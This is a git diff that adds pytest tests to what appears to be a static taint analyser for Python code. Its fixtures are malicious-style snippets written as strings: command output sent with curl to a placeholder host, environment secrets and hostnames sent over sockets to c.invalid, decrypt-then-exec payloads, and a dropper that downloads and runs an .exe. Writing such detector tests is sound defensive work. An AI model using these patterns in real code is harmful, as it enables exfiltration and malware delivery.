@@ -3,7 +3,7 @@
 import pytest
 
 from pratique.analysis.facts import Capability, Taint
-from tests.analysis.languages.python.reading import flows
+from tests.analysis.languages.python.reading import facts, flows
 
 C, P, N, W = Capability.CODE, Capability.PROCESS, Capability.NETWORK, Capability.FILE_WRITE
 LONG = "x" * 200
@@ -83,3 +83,97 @@ def test_the_origin_is_where_the_data_starts() -> None:
     (flow,) = facts("import base64\nx = base64.b64decode(y)\n\nexec(x)").flows
 
     assert (4, 2, True) == (flow.line, flow.origin_line, flow.at_load)
+
+
+def test_what_a_program_printed_is_told_of_a_program_that_sends_it() -> None:
+    source = "import os\nwho = os.popen('whoami').read()\nos.system('{} ' + who)"
+
+    assert {Taint.PROCESS} in [found for _, _, found in flows(source.format("curl https://c.invalid/?u="))]
+    assert [] == flows(source.format("make"))
+
+
+def test_what_goes_through_a_secured_socket_is_sent() -> None:
+    source = (
+        "import os, socket, ssl\nwith socket.create_connection(('c.invalid', 443)) as s:\n"
+        "  with ssl.create_default_context().wrap_socket(s) as t:\n    t.send(os.environ['A'].encode())"
+    )
+
+    assert ["c.invalid:443"] == [flow.target for flow in facts(source).flows]
+
+
+def test_what_system_a_client_runs_on_may_stand_in_its_headers() -> None:
+    source = (
+        "import platform, requests\nrequests.get('https://c.invalid', {}=dict(agent=platform.platform()))"
+    )
+
+    assert [] == flows(source.format("headers"))
+    assert [{Taint.IDENTITY}] == [found for _, _, found in flows(source.format("params"))]
+
+
+@pytest.mark.parametrize(
+    "opened",
+    [
+        f"Fernet(b'k').decrypt(b'{LONG}')",
+        f"Fernet(b'k').decrypt(b'{LONG}').decode()",
+        f"Box(b'k').decrypt(b'{LONG}')",
+        f"decipher(b'{LONG}', b'k')",
+    ],
+)
+@pytest.mark.parametrize(
+    ("sink", "run"), [(C, "exec({})"), (P, "os.system({})"), (W, "open('x', 'wb').write({})")]
+)
+@pytest.mark.parametrize("inside", [False, True], ids=["above", "inside"])
+def test_a_long_literal_that_is_decrypted_reaches_a_sink(
+    opened: str, sink: Capability, run: str, inside: bool
+) -> None:
+    lines = [
+        "import os",
+        "from fernet import Fernet",
+        "from box import Box, decipher",
+        f"o = {opened}",
+        run.format("o"),
+    ]
+    source = "def f():\n " + "\n ".join(lines) + "\nf()" if inside else "\n".join(lines)
+    assert (sink, {Taint.DECRYPTED, Taint.LITERAL}) in [(found, taints) for found, _, taints in flows(source)]
+
+
+@pytest.mark.parametrize(
+    "source", ["exec(Box('k').decrypt('short'))", f"exec(Box('k').encrypt('{LONG}'))", f"decrypt('{LONG}')"]
+)
+def test_what_decrypts_nothing_long_or_runs_nothing_is_no_such_flow(source: str) -> None:
+    assert flows(source) == []
+
+
+@pytest.mark.parametrize(
+    "connected",
+    [
+        "s = socket.socket()\ns.connect((HOST, 443))",
+        "s = ssl.SSLContext().wrap_socket(socket.socket())\ns.connect((HOST, 443))",
+        "r = socket.socket()\nr.connect((HOST, 443))\ns = ssl.create_default_context().wrap_socket(r)",
+    ],
+)
+def test_a_socket_is_told_by_the_host_it_was_connected_to(connected: str) -> None:
+    source = f"import socket, ssl\nHOST = 'c.invalid'\n{connected}\ns.send(str.encode(socket.gethostname()))"
+    assert [(flow.sink, flow.target) for flow in facts(source).flows] == [(N, "c.invalid:443")]
+
+
+DROPPER = """
+import os, urllib.request
+class D:
+    @staticmethod
+    def get(url):
+        path = os.getenv("A") + "/x.exe"
+        urllib.request.urlretrieve(url, path)
+        return {returned}
+    @staticmethod
+    def run(path):
+        os.system(f"start {path}")
+def go(u):
+    D.run(D.get(u))
+"""
+
+
+@pytest.mark.parametrize(("returned", "expected"), [("path", [{Taint.NETWORK}]), ("url", [])])
+def test_a_path_is_followed_through_what_a_method_returns(returned: str, expected: list[set[Taint]]) -> None:
+    source = DROPPER.replace("{returned}", returned)
+    assert [taints - {Taint.ENVIRONMENT} for sink, _, taints in flows(source) if sink is P] == expected
